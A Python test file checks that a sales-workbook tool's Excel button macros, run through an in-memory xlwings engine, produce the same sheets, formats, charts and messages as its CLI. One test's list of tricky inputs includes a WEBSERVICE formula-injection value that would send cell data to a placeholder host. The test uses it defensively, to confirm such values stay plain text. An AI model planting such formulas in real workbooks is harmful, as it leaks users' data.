"""The RunPython entry points, run through the real xlwings object model, write what `salesbook run` writes.

For every button macro in `macros/*.bas`, one copy of a demo workspace (A) goes through the CLI
(`salesbook run ACTION --book A/SalesBook.xlsm`, the FileBook backend) and an identical copy (B)
is opened in the in-memory xlwings engine (tests/xlwings_memory_engine.py), made the mock caller
and handed to the macro's own `RunPython` code. Then every sheet of A's saved file must equal B's
sheets — values, number formats, column widths, row heights, hyperlinks and colours (the file's
conditional formats evaluated against its cells, Excel's fills) — and B must have seen what Excel
shows the user: status bar, message box, screen updating and calculation restored, three charts
over the dashboard's data blocks, header notes and coloured finding rows.
"""

from __future__ import annotations

import ast
import inspect
import os
import re
import shutil
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
import xlwings as xw
from click.testing import CliRunner
from xlwings_memory_engine import Formula, app_model_of, excel_parse, memory_engine, model_of

import salesbook.actions
import salesbook.excel
from salesbook.actions import MONEY_FMT, SHEETS
from salesbook.io.book import FileBook, SheetData, XlwingsBook
from salesbook.io.presentation import NUMBER_FORMATS, palettes
from salesbook.xlsm.builder import load_layout, start_cells

ROOT = Path(__file__).resolve().parents[1]
PERIOD = "2026-11"
OUTPUT_SHEETS = list(SHEETS.values())
START = load_layout().buttons_sheet
SEVERITY_COLOURS = palettes()["severity"]
TIME = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$")
RUNPYTHON = re.compile(r'^\s*RunPython\s*\(?\s*"((?:[^"]|"")*)"', re.MULTILINE)
ENTRY_ACTIONS = {"validate": "validate", "consolidate": "consolidate", "contracts": "contracts",
                 "reports": "reports", "export_hr": "export-hr", "statements": "statements",
                 "close_period": "close"}


# ----------------------------------------------------------------------------- the macros


def runpython_calls() -> list[tuple[str, str, str]]:
    """(file, code, function) for every RunPython in macros/*.bas; the code must be `import salesbook.excel as
    X; X.f()`."""
    calls = []
    for bas in sorted((ROOT / "macros").glob("*.bas")):
        for code in RUNPYTHON.findall(bas.read_text("utf-8", errors="replace")):
            code = code.replace('""', '"')
            tree = ast.parse(code)
            assert len(tree.body) == 2, f"{bas.name}: {code!r} is not `import ...; call()`"
            imp, call = tree.body
            assert isinstance(imp, ast.Import) and len(imp.names) == 1, f"{bas.name}: {code!r}"
            assert imp.names[0].name == "salesbook.excel", f"{bas.name}: {code!r} imports {imp.names[0].name}"
            alias = imp.names[0].asname or "salesbook.excel"
            assert isinstance(call, ast.Expr) and isinstance(call.value, ast.Call), f"{bas.name}: {code!r}"
            fn = call.value.func
            assert isinstance(fn, ast.Attribute) and ast.unparse(fn.value) == alias, f"{bas.name}: {code!r}"
            assert not call.value.args and not call.value.keywords, f"{bas.name}: {code!r} passes arguments"
            calls.append((bas.name, code, fn.attr))
    return calls


CALLS = runpython_calls()


def test_every_runpython_target_is_a_function_of_salesbook_excel_without_arguments():
    assert CALLS, "no RunPython call found in macros/*.bas"
    for file, code, name in CALLS:
        target = getattr(salesbook.excel, name, None)
        assert callable(target), f"{file}: {code!r} names salesbook.excel.{name}, which does not exist"
        assert inspect.isfunction(target) and target.__module__ == "salesbook.excel", f"{file}: {name}"
        required = [p for p in inspect.signature(target).parameters.values()
                    if p.default is p.empty and p.kind not in (p.VAR_POSITIONAL, p.VAR_KEYWORD)]
        assert not required, f"{file}: salesbook.excel.{name} needs arguments {required}; RunPython passes none"
    assert sorted(name for _, _, name in CALLS) == sorted(ENTRY_ACTIONS), "a button without a test, or the reverse"


# ----------------------------------------------------------------------------- workspaces


@pytest.fixture(scope="module")
def source_workspace(tmp_path_factory) -> Path:
    """The demo workspace of `salesbook demo`, before any action ran."""
    from salesbook.cli import init_demo_workspace

    root = tmp_path_factory.mktemp("workspace") / "src"
    init_demo_workspace(root, period=PERIOD)
    return root


@pytest.fixture
def copies(source_workspace, tmp_path) -> tuple[Path, Path]:
    a, b = tmp_path / "A", tmp_path / "B"
    shutil.copytree(source_workspace, a, symlinks=True)
    shutil.copytree(source_workspace, b, symlinks=True)
    return a, b


def run_cli(action: str, book: Path, *options: str):
    from salesbook.cli import main

    return CliRunner().invoke(main, ["run", action, "--book", str(book), *options], catch_exceptions=False)


# ----------------------------------------------------------------------------- normalising


def _roots(*folders: Path) -> list[str]:
    out = set()
    for f in folders:
        out |= {str(f), os.path.realpath(f)}
    return sorted(out, key=len, reverse=True)


def norm(v, roots):
    """A cell value, comparable across backends: numbers as float, dates as datetimes, "" as None, and the
    workspace folder as <WS>."""
    if v is None or v == "":
        return None
    if isinstance(v, bool):
        return v
    if isinstance(v, int | float):
        return float(v)
    if isinstance(v, datetime):
        return v
    if isinstance(v, date):
        return datetime(v.year, v.month, v.day)
    if isinstance(v, str):
        for r in roots:
            v = v.replace(r, "<WS>")
        return "<TIME>" if TIME.match(v) else v  # the start sheet's last-run time: the two runs differ by seconds
    return v  # e.g. a Formula: never equal to what the file holds


def norm_grid(rows, roots) -> list[list]:
    out = []
    for row in rows:
        cells = [norm(v, roots) for v in row]
        while cells and cells[-1] is None:
            cells.pop()
        out.append(cells)
    while out and not out[-1]:
        out.pop()
    return out


def file_sheets(path: Path) -> dict[str, list[list]]:
    wb = openpyxl.load_workbook(path)
    try:
        return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}
    finally:
        wb.close()


def memory_sheets(book) -> dict[str, list[list]]:
    return {s.name: s.grid() for s in model_of(book).sheets}


def first_difference(a: list[list], b: list[list]) -> str:
    for i in range(max(len(a), len(b))):
        ra = a[i] if i < len(a) else None
        rb = b[i] if i < len(b) else None
        if ra != rb:
            if ra is None or rb is None:
                return f"row {i + 1}: {'missing in file' if ra is None else 'missing in Excel'} ({ra or rb})"
            for j in range(max(len(ra), len(rb))):
                va = ra[j] if j < len(ra) else None
                vb = rb[j] if j < len(rb) else None
                if va != vb:
                    return f"row {i + 1} column {j + 1}: file {va!r} != Excel {vb!r}"
    return "equal"


def assert_same_sheets(file_book: Path, xl_book, roots) -> None:
    a = file_sheets(file_book)
    b = memory_sheets(xl_book)
    assert list(a) == list(b), "sheet names or order differ"
    for name in a:
        ga, gb = norm_grid(a[name], roots), norm_grid(b[name], roots)
        assert ga == gb, f"sheet {name}: {first_difference(ga, gb)}"


# ----------------------------------------------------------------------------- charts, notes, fills in the file


def _ref_box(ref: str) -> tuple[int, int, int, int]:
    from openpyxl.utils.cell import range_boundaries

    cells = ref.split("!")[-1].replace("$", "")
    c1, r1, c2, r2 = range_boundaries(cells if ":" in cells else f"{cells}:{cells}")
    return r1, c1, r2, c2


def file_charts(path: Path, sheet: str) -> list[dict]:
    """The charts openpyxl reads back from the saved file: type, anchor cell, the block they cover (all plots of
    a combined chart) and the plots' kinds."""
    wb = openpyxl.load_workbook(path)
    out = []
    for ch in wb[sheet]._charts:
        boxes = []
        plots = getattr(ch, "_charts", None) or [ch]
        for s in (s for plot in plots for s in plot.series):
            for ref in (s.tx and s.tx.strRef and s.tx.strRef.f, s.val and s.val.numRef and s.val.numRef.f,
                        s.cat and (s.cat.numRef or s.cat.strRef) and (s.cat.numRef or s.cat.strRef).f):
                if ref:
                    boxes.append(_ref_box(ref))
        r1, c1 = min(b[0] for b in boxes), min(b[1] for b in boxes)
        r2, c2 = max(b[2] for b in boxes), max(b[3] for b in boxes)
        kind = "pie" if ch.tagname == "pieChart" else {"col": "column_clustered", "bar": "bar_clustered"}[ch.type]
        marker = ch.anchor._from
        out.append({"chart_type": kind, "block": (r1, c1, r2, c2), "anchor": (marker.row + 1, marker.col + 1),
                    "plots": [p.tagname for p in plots], "colours": _point_colours(plots[0])})
    wb.close()
    return out


def _point_colours(plot) -> list[str]:
    series = plot.series[0] if plot.series else None
    fills = [p.graphicalProperties.solidFill for p in (series.dPt if series else [])]
    return [f.srgbClr if isinstance(f.srgbClr, str) else f.srgbClr.val for f in fills]


def file_notes(path: Path) -> dict[str, dict[tuple[int, int], str]]:
    wb = openpyxl.load_workbook(path)
    out = {ws.title: {(c.row, c.column): c.comment.text for row in ws.iter_rows() for c in row if c.comment}
           for ws in wb.worksheets}
    wb.close()
    return out


def file_fills(path: Path, sheet: str) -> dict[int, tuple[int, int, int]]:
    wb = openpyxl.load_workbook(path)
    out = {}
    for row in wb[sheet].iter_rows(min_row=2):
        fill = row[0].fill
        if fill is not None and fill.fill_type == "solid":
            rgb = fill.fgColor.rgb[-6:]
            out[row[0].row] = (int(rgb[0:2], 16), int(rgb[2:4], 16), int(rgb[4:6], 16))
    wb.close()
    return out


def hex_rgb(colour: str) -> tuple[int, int, int]:
    c = colour.lstrip("#")
    return int(c[0:2], 16), int(c[2:4], 16), int(c[4:6], 16)


# ----------------------------------------------------------------------------- the parity test


def run_macro(code: str) -> None:
    """What RunPython does with the macro's string: execute it as Python code."""
    exec(compile(code, "<RunPython>", "exec"), {})  # noqa: S102 - the macro's own code, read from macros/*.bas


@pytest.mark.parametrize(("file", "code", "entry"), CALLS, ids=[c[2] for c in CALLS])
def test_entry_point_through_xlwings_writes_what_the_cli_writes(copies, file, code, entry):
    a, b = copies
    roots = _roots(a, b)
    action = ENTRY_ACTIONS[entry]

    # A: the headless command on the file (closing the demo means accepting its errors: in Excel, the Yes below)
    result = run_cli(action, a / "SalesBook.xlsm", *(["--accept-errors"] if action == "close" else []))
    assert result.exit_code == (1 if action == "validate" else 0), result.output  # the demo has error findings
    cli_message = result.stdout.rstrip("\n")

    # B: the same workbook open in "Excel", the macro's RunPython code with Book.caller()
    with memory_engine():
        book = xw.Book(str(b / "SalesBook.xlsm"))
        book.set_mock_caller()
        assert xw.Book.caller() == book
        before = {s.name: [list(r) for r in s.grid()] for s in model_of(book).sheets}
        run_macro(code)
        app = app_model_of(book)

        # every sheet equal, values and names
        assert_same_sheets(a / "SalesBook.xlsm", book, roots)

        # the message box: the action's message (the CLI prints the same text), shown once, after everything;
        # closing the demo's period first asks whether to accept its error findings (the engine answers Yes)
        if action == "close":
            question = app.alerts.pop(0)
            assert question["buttons"] == "yes_no" and "error" in question["prompt"], question
        assert [x["title"] for x in app.alerts] == ["salesbook"], app.alerts
        alert = app.alerts[0]
        assert norm(alert["prompt"], roots) == norm(cli_message, roots)
        assert not alert["prompt"].startswith("salesbook:"), alert["prompt"]  # not an error message
        assert alert["state"]["status_bar"] is False, "status bar not cleared before the message box"
        assert alert["state"]["screen_updating"] is True and alert["state"]["calculation"] == "automatic"

        # the status bar: set while the action worked (screen updating off, manual calculation), then cleared
        statuses = [(v, s) for p, v, s in app.log if p == "status_bar"]
        progress = [v for v, _ in statuses if v is not False]
        assert progress and all(v.startswith("salesbook:") for v in progress), progress
        during = [s for p, v, s in app.log if p == "status_bar" and v is not False]
        assert all(s["screen_updating"] is False and s["calculation"] == "manual" for s in during)
        assert statuses[-1][0] is False and app.status_bar is False

        # properties(): switched for the action and restored afterwards
        switched = [(p, v) for p, v, _ in app.log if p in ("screen_updating", "calculation")]
        assert switched == [("screen_updating", False), ("calculation", "manual"),
                            ("screen_updating", True), ("calculation", "automatic")], switched
        assert app.screen_updating is True and app.calculation == "automatic"

        model = model_of(book)
        written = [s for s in OUTPUT_SHEETS if s in before and model.sheet(s).grid() != before[s]]
        check_number_formats(a / "SalesBook.xlsm", book, written)
        check_widths_heights_links(a / "SalesBook.xlsm", book, written)
        check_colours(a / "SalesBook.xlsm", book, written)
        check_last_run(a / "SalesBook.xlsm", book, before)
        if action in ("validate", "consolidate"):
            assert {SHEETS["findings"], SHEETS["files"]} <= set(written), written
            check_findings_sheet(a / "SalesBook.xlsm", book)
            check_header_notes(a / "SalesBook.xlsm", book, written)
        if action in ("consolidate", "close"):
            assert set(written) == set(OUTPUT_SHEETS), written
            check_dashboard(a / "SalesBook.xlsm", book)
        if action == "close":
            check_findings_sheet(a / "SalesBook.xlsm", book)
            cards = model_of(book).sheet(SHEETS["scorecards"]).grid()
            assert cards[0][-2:] == ["结账\nClosed", "变动\nChanges since close"], cards[0]
            assert all(str(r[-2]).startswith("已结账 closed") and r[-1] == "无变动 / none" for r in cards[1:]), cards
        if action == "export-hr":
            assert written == [SHEETS["scorecards"], SHEETS["commissions"]], written
            check_header_notes(a / "SalesBook.xlsm", book, written)
        if action in ("contracts", "reports", "statements"):
            assert written == [], written

    # the files in the output folder: the same names
    out_a = sorted(str(p.relative_to(a)) for p in (a / "out").rglob("*") if p.is_file())
    out_b = sorted(str(p.relative_to(b)) for p in (b / "out").rglob("*") if p.is_file())
    assert out_a == out_b
    if action != "validate":
        assert out_b, f"{action} wrote nothing to out/"
    assert xw.engines.active is None and not hasattr(xw.Book, "_mock_caller")


def check_findings_sheet(path: Path, book) -> None:
    """Error and warning rows coloured whole; header bold white on blue; a finding's cell links into its file."""
    sheet = model_of(book).sheet(SHEETS["findings"])
    grid = sheet.grid()
    col = next(j for j, h in enumerate(grid[0]) if h.endswith("Severity"))
    width = len(grid[0])
    for r, row in enumerate(grid[1:], start=2):
        row_colours = {sheet.formats.get((r, c), {}).get("color") for c in range(1, width + 1)}
        severity = row[col] if col < len(row) else None
        if severity in ("error", "warning"):
            assert row_colours == {hex_rgb(SEVERITY_COLOURS[severity])}, (r, severity, row_colours)
        else:
            assert row_colours == {None}, (r, severity, row_colours)
    assert any(row[col] == "error" for row in grid[1:] if col < len(row)), "the demo must produce error findings"
    for c in range(1, width + 1):
        f = sheet.formats[(1, c)]
        assert f["bold"] is True and f["font_color"] == (255, 255, 255) and f["color"] == (31, 78, 120)
    cell_col = next(j for j, h in enumerate(grid[0]) if h.endswith("Cell")) + 1
    links = {k: v for k, v in sheet.links.items() if k[1] == cell_col}
    assert links, "no finding links to its cell"
    for (r, c), target in links.items():
        assert target.endswith("!" + grid[r - 1][c - 1]) and "#'" in target, target
        assert (Path(book.fullname).parent / target.split("#")[0].replace("%20", " ")).is_file(), target


def _cf_colours(ws) -> dict[tuple[int, int], tuple[int, int, int]]:
    """What the file's conditional formats colour, evaluated against its cells as Excel would (our rule forms)."""
    from openpyxl.utils.cell import column_index_from_string, range_boundaries

    out = {}
    equal = re.compile(r'^\$([A-Z]+)(\d+)="(.*)"$')
    differs = re.compile(r'^AND\(\$([A-Z]+)(\d+)<>"",\$\1\2<>\$([A-Z]+)\2\)$')
    for cf in ws.conditional_formatting:
        for rule in cf.rules:
            formula = rule.formula[0]
            rgb = rule.dxf.fill.fgColor.rgb[-6:]
            colour = (int(rgb[0:2], 16), int(rgb[2:4], 16), int(rgb[4:6], 16))
            for ref in str(cf.sqref).split():
                c1, r1, c2, r2 = range_boundaries(ref)
                m, d = equal.match(formula), differs.match(formula)
                assert m or d, f"a conditional format the test cannot evaluate: {formula}"
                base = int((m or d).group(2))
                for r in range(r1, r2 + 1):
                    if m:
                        v = ws.cell(base + r - r1, column_index_from_string(m.group(1))).value
                        hit = v == m.group(3)
                    else:
                        v = ws.cell(base + r - r1, column_index_from_string(d.group(1))).value
                        other = ws.cell(base + r - r1, column_index_from_string(d.group(3))).value
                        hit = v not in (None, "") and v != other
                    if hit:  # (the formula names the first row; each row of the range reads its own)
                        for c in range(c1, c2 + 1):
                            out[(r, c)] = colour
    return out


def check_colours(path: Path, book, sheets: list[str]) -> None:
    """Every cell has the colour in Excel that the file gives it: its conditional formats, else its own fill."""
    wb = openpyxl.load_workbook(path)
    model = model_of(book)
    try:
        for name in sheets:
            ws = wb[name]
            expected = {}
            for row in ws.iter_rows(min_row=2):
                for c in row:
                    if c.fill is not None and c.fill.fill_type == "solid":
                        rgb = c.fill.fgColor.rgb[-6:]
                        expected[(c.row, c.column)] = (int(rgb[0:2], 16), int(rgb[2:4], 16), int(rgb[4:6], 16))
            expected.update(_cf_colours(ws))
            got = {k: f["color"] for k, f in model.sheet(name).formats.items() if f.get("color") and k[0] > 1}
            assert got == expected, f"{name}: colours differ at {sorted(set(got.items()) ^ set(expected.items()))[:5]}"
    finally:
        wb.close()


def check_widths_heights_links(path: Path, book, sheets: list[str]) -> None:
    """Column widths, row heights and hyperlinks are the same in Excel as in the file."""
    from openpyxl.utils import column_index_from_string

    wb = openpyxl.load_workbook(path)
    model = model_of(book)
    try:
        for name in sheets:
            ws, sheet = wb[name], model.sheet(name)
            widths = {column_index_from_string(k): d.width for k, d in ws.column_dimensions.items() if d.customWidth}
            assert widths == sheet.column_widths, f"{name}: column widths differ"
            heights = {r: d.height for r, d in ws.row_dimensions.items() if d.height is not None}
            assert heights == sheet.row_heights, f"{name}: row heights differ"
            links = {(c.row, c.column): c.hyperlink.target + (f"#{c.hyperlink.location}" if c.hyperlink.location
                                                              else "")
                     for row in ws.iter_rows() for c in row if c.hyperlink is not None}
            assert links == sheet.links, f"{name}: hyperlinks differ"
    finally:
        wb.close()


def check_last_run(path: Path, book, before: dict[str, list[list]]) -> None:
    """The start sheet says what the action did: its caption, the time, the files and the findings."""
    cells = start_cells(load_layout())
    sheet = model_of(book).sheet(START)
    from openpyxl.utils.cell import coordinate_to_tuple

    values = {k: sheet.values.get(coordinate_to_tuple(v)) for k, v in cells.items() if k != "sheet"}
    captions = [b.caption for b in load_layout().buttons]
    assert values["action"] in captions, values
    assert TIME.match(values["time"]) and values["files"].startswith("已读取 ") and "errors" in values["findings"]
    # folders inside the workspace are shown relative to it, so the sheet stays true when it is moved
    assert values["period"] == PERIOD and values["team_folder"] == "team"
    assert values["result"] in ("", None) or values["result"].startswith("out/"), values["result"]
    assert sheet.grid() != before[START]


def check_header_notes(path: Path, book, sheets: list[str]) -> None:
    in_file = file_notes(path)
    model = model_of(book)
    for name in sheets:
        notes = model.sheet(name).notes
        assert notes == in_file[name], f"{name}: header notes differ"
        if name != SHEETS["dashboard"]:
            assert notes, f"{name}: no header notes"
            assert all(r == 1 for r, _ in notes), f"{name}: notes off the header row"


def check_number_formats(path: Path, book, sheets: list[str]) -> None:
    """Money, percentage, count, score and date cells carry the same number format as in the file."""
    wb = openpyxl.load_workbook(path)
    model = model_of(book)
    try:
        for name in sheets:
            formats = model.sheet(name).formats
            for row in wb[name].iter_rows(min_row=2):
                for c in row:
                    if c.value is not None and c.number_format in NUMBER_FORMATS.values():
                        got = formats.get((c.row, c.column), {}).get("number_format")
                        assert got == c.number_format, f"{name}!{c.coordinate}: {got!r} != {c.number_format!r}"
    finally:
        wb.close()


def _cell_at(sheet, left: float, top: float) -> tuple[int, int]:
    """The cell whose top-left corner is at (left, top) points on the engine's sheet."""
    row = next(r for r in range(1, 10_000) if sheet.row_top(r) >= top - 0.01)
    col = next(c for c in range(1, 500) if sheet.column_left(c) >= left - 0.01)
    return row, col


def check_dashboard(path: Path, book) -> None:
    """Three charts near A1, each over its own small table, in both the file and Excel."""
    sheet = model_of(book).sheet(SHEETS["dashboard"])
    grid = sheet.grid()
    charts = sheet.charts
    assert len(charts) == 3, charts
    in_file = file_charts(path, SHEETS["dashboard"])
    assert len(in_file) == 3
    headers = []
    for chart, expected in zip(charts, in_file, strict=True):
        name, r, c, nrows, ncols = chart.source
        assert name == SHEETS["dashboard"]
        assert (r, c, r + nrows - 1, c + ncols - 1) == expected["block"], (chart, expected)
        assert chart.chart_type == expected["chart_type"]
        anchor = _cell_at(sheet, chart.left, chart.top)
        assert anchor == expected["anchor"], (chart.name, anchor, expected["anchor"])
        assert anchor[1] == 1 and anchor[0] < r, "a chart left-aligned above its own table"
        assert chart.title, f"{chart.name} has no title"
        block = [row + [None] * (c + ncols - 1 - len(row)) for row in grid[r - 1:r + nrows - 1]]
        assert all(v is not None for v in block[0][c - 1:c + ncols - 1]), "a series without a name"
        assert all(row[c - 1] is not None for row in block[1:]), "a category without a label"
        assert not grid[r + nrows - 1 : r + nrows] or not any(grid[r + nrows - 1]), "tables are kept apart"
        headers.append(block[0][c - 1])
        # Values are numbers; an attainment for a rep without a target is a gap (None), never text.
        assert all(v is None or isinstance(v, float) for row in block[1:] for v in row[c:c + ncols - 1])
        assert any(isinstance(row[c], float) for row in block[1:]), "chart values are not numbers"
    assert headers == ["销售代表 Rep", "评级 Rating", "阶段 Stage"]
    assert in_file[0]["plots"] == ["barChart", "lineChart"], "attainment bars with the 100 % line over them"
    rating = palettes()["rating"]
    assert in_file[1]["colours"] == [rating[k].lstrip("#").upper() for k in "SABCD"], "fixed colours S to D"
    assert [ch.chart_type for ch in charts] == ["column_clustered", "column_clustered", "bar_clustered"]
    stages = [row[0] for row in grid[charts[2].source[1]:charts[2].source[1] + charts[2].source[3] - 1]]
    assert [s.split(" ")[1] for s in stages] == ["Lead", "Qualified", "Proposal", "Negotiation"]  # open only
    ratings = [row[0] for row in grid[charts[1].source[1]:charts[1].source[1] + charts[1].source[3] - 1]]
    assert ratings == ["S", "A", "B", "C", "D"]
    first = charts[0].source
    attainment = [row[1] for row in grid[first[1]:first[1] + first[3] - 1]]
    shown = [v for v in attainment if v is not None]
    assert shown == sorted(shown, reverse=True), "attainment sorted, best first"
    assert {row[2] for row in grid[first[1]:first[1] + first[3] - 1]} == {1.0}, "the 100 % target series"
    wb = openpyxl.load_workbook(path)
    assert not wb[SHEETS["dashboard"]].auto_filter.ref, "no autofilter across the dashboard's tables"
    wb.close()


# ----------------------------------------------------------------------------- failures become a message box


def _blank_period_in_file(path: Path) -> None:
    wb = openpyxl.load_workbook(path, keep_vba=True)
    ws = wb["设置"]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == "period":
            row[1].value = None
    wb.save(path)


def test_a_failing_action_ends_in_a_message_box_not_an_exception(copies):
    a, b = copies
    _blank_period_in_file(a / "SalesBook.xlsm")
    result = run_cli("consolidate", a / "SalesBook.xlsm")
    assert result.exit_code == 2
    cli_error = result.stderr.strip().removeprefix("Error: ")
    assert "period" in cli_error

    with memory_engine():
        book = xw.Book(str(b / "SalesBook.xlsm"))
        settings = book.sheets["设置"]
        keys = settings.used_range.value
        row = next(i for i, r in enumerate(keys, start=1) if r[0] == "period")
        settings.range((row, 2)).value = None  # the user clears the period in Excel
        book.set_mock_caller()
        before = memory_sheets(book)
        assert salesbook.excel.consolidate() is None  # no exception escapes to RunPython
        app = app_model_of(book)
        assert [x["prompt"] for x in app.alerts] == ["salesbook: " + cli_error]
        assert "设置 / Settings" in app.alerts[0]["prompt"] and "'period'" in app.alerts[0]["prompt"]
        assert app.status_bar is False and app.screen_updating is True and app.calculation == "automatic"
        assert memory_sheets(book) == before, "a failed action changed the workbook"
    assert not (b / "out" / "consolidation").exists()


def test_the_statements_button_refuses_a_week_in_a_message_box(copies):
    """The 考核确认单 button with a week as the period shows the refusal the CLI prints, writes no statement and
    leaves the workbook as it was."""
    a, b = copies
    wb = openpyxl.load_workbook(a / "SalesBook.xlsm", keep_vba=True)
    for row in wb["设置"].iter_rows(min_row=2):
        if row[0].value == "period":
            row[1].value = "2026-W48"
    wb.save(a / "SalesBook.xlsm")
    result = run_cli("statements", a / "SalesBook.xlsm")
    assert result.exit_code == 2
    cli_error = result.stderr.strip().removeprefix("Error: ")
    assert "2026-W48 is a week" in cli_error

    shutil.rmtree(b / "out" / "statements", ignore_errors=True)
    with memory_engine():
        book = xw.Book(str(b / "SalesBook.xlsm"))
        settings = book.sheets["设置"]
        keys = settings.used_range.value
        row = next(i for i, r in enumerate(keys, start=1) if r[0] == "period")
        settings.range((row, 2)).value = "2026-W48"
        book.set_mock_caller()
        before = memory_sheets(book)
        salesbook.excel.statements()
        app = app_model_of(book)
        assert [x["prompt"] for x in app.alerts] == ["salesbook: " + cli_error]
        assert memory_sheets(book) == before, "a refused action changed the workbook"
    assert not (b / "out" / "statements").exists()


def test_an_unexpected_error_is_shown_too(copies, monkeypatch):
    _, b = copies

    def boom(name, book):
        raise RuntimeError("disk full")

    monkeypatch.setattr(salesbook.actions, "run_action", boom)
    with memory_engine():
        book = xw.Book(str(b / "SalesBook.xlsm"))
        book.set_mock_caller()
        salesbook.excel.validate()
        app = app_model_of(book)
        [alert] = app.alerts
        assert alert["prompt"].startswith("salesbook: disk full"), alert["prompt"]
        assert app.screen_updating is True and app.calculation == "automatic" and app.status_bar is False


# ----------------------------------------------------------------------------- the engine itself


def test_engine_activates_and_restores_xlwings(tmp_path):
    path = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "S"
    wb.active["B3"] = 5
    wb.save(path)
    assert xw.engines.active is None
    with memory_engine() as engine:
        assert xw.engines.active.name == "memory" and xw.engines.active.impl is engine
        book = xw.Book(str(path))
        assert xw.Book(str(path)) == book, "opening the same file twice gives the open book"
        book.set_mock_caller()
        assert xw.Book.caller().fullname == os.path.realpath(path)
        rng = book.sheets["S"].used_range
        assert (rng.row, rng.column, rng.shape, rng.value) == (3, 2, (1, 1), 5.0)  # Excel numbers are doubles
        with pytest.raises(NotImplementedError, match=r"memory engine: Range\.formula is not implemented"):
            _ = rng.formula
        with pytest.raises(NotImplementedError, match=r"memory engine: Sheet\.autofit"):
            book.sheets[0].autofit()
        with pytest.raises(TypeError, match="COM VARIANT"):
            rng.value = tmp_path
    assert xw.engines.active is None and "memory" not in [e.name for e in xw.engines]
    assert "_mock_caller" not in vars(xw.Book)
    with pytest.raises(Exception):  # noqa: B017 - "must not be called directly" (AttributeError on Linux)
        xw.Book.caller()


def test_engine_parses_strings_as_excel_does():
    assert excel_parse("001") == 1.0
    assert excel_parse("1,234.5") == 1234.5
    assert excel_parse("10%") == 0.1
    assert excel_parse("2026-11-30") == datetime(2026, 11, 30)
    assert excel_parse("2026-11") == datetime(2026, 11, 1)
    assert excel_parse("TRUE") is True
    assert excel_parse("=A1") == Formula("=A1")
    assert excel_parse("'001") == "001"
    assert excel_parse("2026-02-30") == "2026-02-30"
    assert excel_parse("S001") == "S001"
    assert excel_parse("2026-W48") == "2026-W48"


def test_xlwings_book_keeps_text_as_text_like_the_file(tmp_path):
    """Strings Excel would take for numbers, dates, booleans or formulas stay the strings salesbook wrote."""
    tricky = ["001", "2026-11", "2026-11-30", "TRUE", "=1+1", "'quoted", "10%", "S001", "", "1e5",
              '=WEBSERVICE("http://x/?"&A1)', "#N/A", "＝1+1", "@SUM(A1)", "a\x01b"]
    data = SheetData(name="T", header=["v", "n"], rows=[[t, i] for i, t in enumerate(tricky)])
    path = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "Sheet1"
    wb.save(path)
    fb = FileBook(path)
    fb.write(data)
    fb.save()
    with memory_engine():
        xb = XlwingsBook(xw.Book(str(path)))
        xb.write(data)
        got = norm_grid(xb.read("T"), [])
    assert got == norm_grid(FileBook(path).read("T"), [])
    saved = openpyxl.load_workbook(path)["T"]
    assert [c.value for c in saved["A"][1:] if c.value is not None] == [
        t.replace("\x01", "\ufffd") for t in tricky if t]  # the exact text, no apostrophe in the value
    assert {c.data_type for c in saved["A"][1:] if c.value is not None} == {"s"}


def test_large_sheets_go_through_xlwings_chunked_writes(tmp_path, monkeypatch):
    """More than the engine's write budget (xlwings' default is 100,000 cells; here 1,000): written in row
    chunks, still equal to the file."""
    rows = [[f"R{i:05d}", i, i / 8, f"{i % 97:03d}", datetime(2026, 11, 1 + i % 30)] for i in range(2_200)]
    data = SheetData(name="Big", header=["id", "n", "x", "code", "day"], rows=rows, number_formats={2: MONEY_FMT})
    path = tmp_path / "big.xlsx"
    wb = openpyxl.Workbook()
    wb.save(path)
    fb = FileBook(path)
    fb.write(data)
    fb.save()
    chunks = []
    with memory_engine(max_cells_per_write=1_000):
        xb = XlwingsBook(xw.Book(str(path)))
        sheet_range = type(xb.book.sheets[0].impl).range
        monkeypatch.setattr(type(xb.book.sheets[0].impl), "range",
                            lambda self, a, b=None: chunks.append(a) or sheet_range(self, a, b))
        xb.write(data)
        got = norm_grid(xb.read("Big"), [])
        assert model_of(xb.book).sheet("Big").formats[(2_201, 3)]["number_format"] == MONEY_FMT
    assert [a for a in chunks if isinstance(a, tuple) and len(a) == 4][:2] == [(2, 1, 200, 5), (202, 1, 200, 5)]
    assert got == norm_grid(FileBook(path).read("Big"), [])
    assert got[1] == ["R00000", 0.0, 0.0, "000", datetime(2026, 11, 1)]


def test_a_period_typed_in_excel_still_works(copies):
    """A period typed into 设置 in Excel (which stores 2026-11 as the date 2026-11-01) still works."""
    _, b = copies
    with memory_engine():
        book = xw.Book(str(b / "SalesBook.xlsm"))
        settings = book.sheets["设置"]
        row = next(i for i, r in enumerate(settings.used_range.value, start=1) if r[0] == "period")
        settings.range((row, 2)).value = PERIOD  # typed: Excel parses it as it parses any entry
        book.set_mock_caller()
        salesbook.excel.validate()
        [alert] = app_model_of(book).alerts
        assert alert["prompt"].startswith("校验完成"), alert["prompt"]
